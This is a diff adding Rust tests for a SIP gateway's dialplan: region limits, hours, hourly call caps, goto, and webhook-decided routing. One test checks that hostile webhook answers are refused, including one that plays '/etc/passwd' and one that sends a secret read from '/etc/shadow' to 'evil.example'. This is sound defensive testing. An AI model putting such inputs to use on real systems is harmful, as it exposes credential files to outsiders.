@@ -1,0 +1,168 @@
+//! What a dialplan can say of a route besides its pattern: where the number lies, when, how often, and go there.
+
+use crate::lab::*;
+use std::time::Duration;
+use webtrunk::observe::Note;
+
+const ROUTES: &str = r#"
+hours.day = { tz = "UTC", open = ["daily 00:00-23:00"] }
+[[route]]
+name = "By day"
+match = "700"
+when = "day"
+do = [{ hangup = 486 }]
+[[route]]
+name = "By night"
+match = "700"
+do = [{ hangup = 603 }]
+[[route]]
+name = "To its owner"
+match = "+12065550112"
+do = [{ goto = "incoming" }]
+[[route]]
+name = "US alone"
+match = "+1NXXNXXXXXX"
+region = ["US"]
+limit = { per_user_per_hour = 2 }
+tags = { cost = "low" }
+do = [{ dial = ["trunk:t2"] }]
+[[route]]
+name = "On"
+match = "800"
+do = [{ goto = "incoming" }]
+[[route]]
+name = "Round"
+match = "801"
+do = [{ goto = "phones" }]
+"#;
+
+/// 22:13:20 on 14 November 2023 is where the lab's clock stands.
+fn lab() -> Lab {
+    Lab::changed(&[], ROUTES)
+}
+
+#[test]
+fn a_number_in_another_country_is_refused_in_words() {
+    // Another route may still take it.
+    let mut open = lab();
+    open.invite(ALICE, "+18765550123", OFFER);
+    assert!(open.got(T1, "INVITE"));
+    let mut strict = Lab::with_plans(&[], ROUTES);
+    strict.invite(ALICE, "+18765550123", OFFER);
+    let refused = strict.take(ALICE, "403");
+    let why = refused.header(webtrunk::sip::HeaderName::Reason).expect("a reason");
+    assert!(why.contains("+18765550123 may not be called: it lies in JM, and region allows US"), "{why}");
+    strict.invite(ALICE, "+12065550123", OFFER);
+    assert!(strict.got(T2, "INVITE"));
+}
+
+#[test]
+fn hours_decide_by_the_clock() {
+    let mut lab = lab();
+    lab.invite(ALICE, "700", OFFER);
+    lab.take(ALICE, "486");
+    lab.advance(Duration::from_secs(3_600));
+    lab.invite(ALICE, "700", OFFER);
+    lab.take(ALICE, "603");
+}
+
+#[test]
+fn a_route_brakes_what_one_user_spends_in_an_hour() {
+    let mut lab = lab();
+    let mut dial = |lab: &mut Lab| {
+        lab.invite(ALICE, "+12065550123", OFFER);
+        if !lab.got(T2, "INVITE") {
+            return false;
+        }
+        let invite = lab.take(T2, "INVITE");
+        lab.reply(T2, &invite, 486, "");
+        lab.take(ALICE, "486");
+        lab.advance(Duration::from_secs(40));
+        true
+    };
+    assert!(dial(&mut lab) && dial(&mut lab));
+    assert_eq!(lab.ended()[0].tags["cost"], "low");
+    assert!(!dial(&mut lab), "the third within the hour");
+    let refused = lab.take(ALICE, "503");
+    assert!(refused.header(webtrunk::sip::HeaderName::RetryAfter).is_some());
+    assert!(lab.notes.iter().any(|n| matches!(n, Note::CallRefused { why, .. } if why.contains("2 calls of this hour"))));
+    lab.invite(BOB, "+12065550123", OFFER);
+    assert!(lab.got(T2, "INVITE"), "bob has his own");
+    lab.advance(Duration::from_secs(3_600));
+    lab.inbox.clear();
+    assert!(dial(&mut lab), "an hour later");
+}
+
+#[test]
+fn goto_goes_on_in_another_dialplan_and_never_in_a_circle() {
+    let mut lab = lab();
+    lab.invite(ALICE, "+12065550112", OFFER);
+    assert!(lab.got(BOB, "INVITE"), "the owner of the number rings");
+    lab.invite(ALICE, "801", OFFER);
+    lab.take(ALICE, "482");
+    lab.invite(ALICE, "800", OFFER);
+    lab.take(ALICE, "404");
+}
+
+const ASKED: &str = r#"
+[[route]]
+name = "Ask the shop"
+match = "sales"
+do = [{ webhook = "https://shop.example/route", secret = "0123456789abcdef" }, { hangup = 503 }]
+"#;
+
+/// Gives the newest question this answer, as the shell would.
+fn answers(lab: &mut Lab, text: Result<&str, &str>) {
+    let (call, _) = lab.routes_asked.pop().expect("it was asked");
+    let config = lab.gateway.config().clone();
+    let answer = text.map_err(str::to_owned).and_then(|t| webtrunk::config::check::steps_of(t, &config)).map(Box::new);
+    lab.handle(webtrunk::gateway::Input::Routed { call, answer });
+}
+
+#[test]
+fn a_web_application_decides_and_its_answer_is_checked_like_a_dialplan() {
+    let mut lab = Lab::changed(&[], ASKED);
+    lab.invite(ALICE, "sales", OFFER);
+    let asked: serde_json::Value = serde_json::from_str(&lab.routes_asked[0].1).expect("JSON");
+    assert_eq!((asked["type"].as_str(), asked["data"]["number"].as_str(), asked["data"]["from"]["user"].as_str()), (Some("call.route"), Some("sales"), Some("alice")));
+    answers(&mut lab, Ok(r#"{ "do": [ { "ring": ["user:bob"], "timeout": "20s" } ], "tags": { "cart": "A-1042" } }"#));
+    let invite = lab.take(BOB, "INVITE");
+    lab.reply(BOB, &invite, 486, "");
+    lab.take(ALICE, "486");
+    assert_eq!(lab.ended()[0].tags["cart"], "A-1042");
+    lab.expect_idle();
+}
+
+#[test]
+fn an_answer_that_is_late_missing_or_wrong_leaves_the_call_to_the_next_step() {
+    for (answer, why) in [
+        (Err("no answer in time"), "no answer in time"),
+        (Ok("<html>"), "no JSON"),
+        (Ok("[]"), "no JSON object"),
+        (Ok("{}"), "missing field `do`"),
+        (Ok(r#"{ "do": [{ "dial": ["trunk:nowhere"] }] }"#), "names a trunk that does not exist"),
+        (Ok(r#"{ "do": [{ "ring": ["user:bob"], "wait": 5 }] }"#), "unknown key `wait`"),
+        (Ok(r#"{ "do": [{ "play": "/etc/passwd" }] }"#), "plays a file"),
+        (Ok(r#"{ "do": [{ "webhook": "https://evil.example", "secret": { "file": "/etc/shadow" } }] }"#), "another webhook"),
+        (Ok(r#"{ "do": [{ "goto": "nowhere" }] }"#), "no dialplan context"),
+    ] {
+        let mut lab = Lab::changed(&[], ASKED);
+        lab.invite(ALICE, "sales", OFFER);
+        answers(&mut lab, answer);
+        lab.take(ALICE, "503");
+        let told = lab.notes.iter().any(|n| matches!(n, Note::WebhookFailed { why: told, .. } if told.contains(why)));
+        assert!(told, "{why}: {:?}", lab.notes);
+        lab.expect_idle();
+    }
+}
+
+#[test]
+fn who_hangs_up_while_it_is_asked_is_gone_when_the_answer_comes() {
+    let mut lab = Lab::changed(&[], ASKED);
+    let text = lab.invite(ALICE, "sales", OFFER);
+    lab.cancel(ALICE, &text);
+    lab.take(ALICE, "487");
+    answers(&mut lab, Ok(r#"{ "do": [ { "ring": ["user:bob"] } ] }"#));
+    assert!(!lab.got(BOB, "INVITE"));
+    lab.expect_idle();
+}
